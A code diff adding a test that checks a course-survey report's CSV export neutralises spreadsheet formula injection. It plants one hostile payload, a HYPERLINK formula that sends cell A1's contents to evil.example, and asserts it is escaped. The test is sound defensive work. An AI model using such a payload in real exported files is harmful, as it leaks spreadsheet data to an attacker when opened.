@@ -358,4 +358,17 @@ describe('evidence report', () => {
 		expect(mujer[6]).toBe(12);
 		expect(book.getWorksheet('Notas')!.getCell('A1').value).toBe('Curso de prueba');
 	});
+
+	it("never exports an author's text as a spreadsheet formula", async () => {
+		const { db } = await world();
+		const view = reportView(await evidenceReport(db, course, survey, everyone()));
+		const payload = '=HYPERLINK("https://evil.example/?"&A1,"Ver")';
+		const line = view.tables[0].sections.flatMap((s) => s.lines).find((l) => l.kind === 'share')!;
+		line.label = payload;
+		line.name = payload;
+		const csv = reportCsv(view);
+		expect(csv).not.toMatch(/(^|[\r\n,])"?=HYPERLINK/);
+		const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data;
+		expect(rows.some((r) => r.includes(`'${payload}`))).toBe(true);
+	});
 });
